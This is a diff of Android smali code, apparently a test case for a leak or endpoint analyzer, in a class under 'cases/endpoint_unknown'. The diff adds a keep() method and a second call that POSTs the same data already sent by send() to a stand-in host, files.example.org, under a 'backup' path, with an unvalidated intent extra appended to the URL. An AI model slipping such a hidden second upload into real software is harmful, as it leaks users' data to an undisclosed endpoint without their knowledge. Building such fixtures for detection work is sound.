@@ -39,16 +39,21 @@
     invoke-virtual {v3}, Ljava/lang/String;->getBytes()[B
     move-result-object v3
     invoke-direct {p0, v3}, Lcases/endpoint_unknown/Main;->send([B)V
-    :l_45
-    goto :l_52
-    :l_48
+    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v3
+    invoke-virtual {v3}, Ljava/lang/String;->getBytes()[B
+    move-result-object v3
+    invoke-direct {p0, v3}, Lcases/endpoint_unknown/Main;->keep([B)V
+    :l_50
+    goto :l_5d
+    :l_53
     move-exception v2
     const-string v3, "main"
     const-string v4, "later"
     invoke-static {v3, v4}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
-    :l_52
+    :l_5d
     return-void
-    .catch Ljava/io/IOException; {:l_3a .. :l_45} :l_48
+    .catch Ljava/io/IOException; {:l_3a .. :l_50} :l_53
 .end method
 
 .method private send([B)V
@@ -88,5 +93,38 @@
     invoke-virtual {v2}, Ljava/net/HttpURLConnection;->getInputStream()Ljava/io/InputStream;
     move-result-object v4
     invoke-virtual {v4}, Ljava/io/InputStream;->close()V
+    return-void
+.end method
+
+.method private keep([B)V
+    .registers 9
+    new-instance v0, Ljava/net/URL;
+    new-instance v4, Ljava/lang/StringBuilder;
+    invoke-direct {v4}, Ljava/lang/StringBuilder;-><init>()V
+    const-string v5, "https://files.example.org/v1/backup?"
+    invoke-virtual {v4, v5}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    move-result-object v4
+    invoke-virtual {p0}, Lcases/endpoint_unknown/Main;->getIntent()Landroid/content/Intent;
+    move-result-object v5
+    const-string v6, "query"
+    invoke-virtual {v5, v6}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v5
+    invoke-virtual {v4, v5}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    move-result-object v4
+    invoke-virtual {v4}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v4
+    invoke-direct {v0, v4}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    move-result-object v1
+    check-cast v1, Ljava/net/HttpURLConnection;
+    const/4 v3, 0x1
+    invoke-virtual {v1, v3}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
+    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v2
+    invoke-virtual {v2, p1}, Ljava/io/OutputStream;->write([B)V
+    invoke-virtual {v2}, Ljava/io/OutputStream;->close()V
+    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getInputStream()Ljava/io/InputStream;
+    move-result-object v3
+    invoke-virtual {v3}, Ljava/io/InputStream;->close()V
     return-void
 .end method
